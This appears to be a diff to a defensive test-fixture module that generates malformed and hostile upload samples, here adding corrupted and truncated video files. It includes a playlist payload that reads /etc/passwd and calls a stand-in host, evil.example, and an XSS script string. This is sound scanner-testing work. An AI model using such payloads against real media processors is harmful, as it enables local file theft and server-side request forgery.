@@ -4,6 +4,7 @@
 """
 
 import io
+import random
 import struct
 import zipfile
 import zlib
@@ -13,6 +14,8 @@ from typing import NamedTuple
 from PIL import Image
 from pypdf import PdfWriter
 from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+from tests.collaboration.casefiles.films import film
 
 REFUSED, HARMLESS = "refused", "harmless"
 SCRIPT = b"<script>alert(document.domain)</script>"
@@ -202,6 +205,24 @@ def documents() -> Iterator[Sample]:
         yield Sample(name, image(form))
 
 
+def films() -> Iterator[Sample]:
+    """Broken in every way; nobody is hurt by one that is only kept, and of most not even a picture can be drawn."""
+    whole = {ending: film(ending) for ending in ("mp4", "mov", "webm", "avi")}
+    noise = random.Random(7)
+    for ending, data in whole.items():
+        yield Sample(f"a.{ending}", data, HARMLESS)
+        yield Sample(f"a.{ending}", data[: len(data) // 2], HARMLESS)
+        changed = bytearray(data)
+        for at in noise.sample(range(64, len(data)), len(data) // 40):
+            changed[at] = noise.randrange(256)
+        yield Sample(f"a.{ending}", bytes(changed), HARMLESS)
+    yield Sample("a.mp4", whole["mp4"].replace(b"\x00\x40\x00\x30", b"\xff\xff\xff\xff"), HARMLESS)
+    yield Sample("a.mp4", b"\x00\x00\x00\x18ftypmp42" + b"\x00\x00\x00\x08moov" * 5000, HARMLESS)
+    yield Sample("a.mp4", b"\x00\x00\x00\x18ftypmp42" + b"#EXTM3U\nfile:///etc/passwd\n", HARMLESS)
+    yield Sample("a.webm", b"\x1a\x45\xdf\xa3" + b"\xff" * 4000, HARMLESS)
+    yield Sample("a.mp4", b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nconcat:http://evil.example/|file:///etc/passwd\n")
+
+
 def names() -> Iterator[Sample]:
     yield Sample("", image())
     yield Sample("机密-样例.png", image())
@@ -217,4 +238,4 @@ def names() -> Iterator[Sample]:
 
 def samples() -> list[Sample]:
     """All of them."""
-    return [*programs(), *pages(), *polyglots(), *bombs(), *documents(), *names()]
+    return [*programs(), *pages(), *polyglots(), *bombs(), *documents(), *films(), *names()]
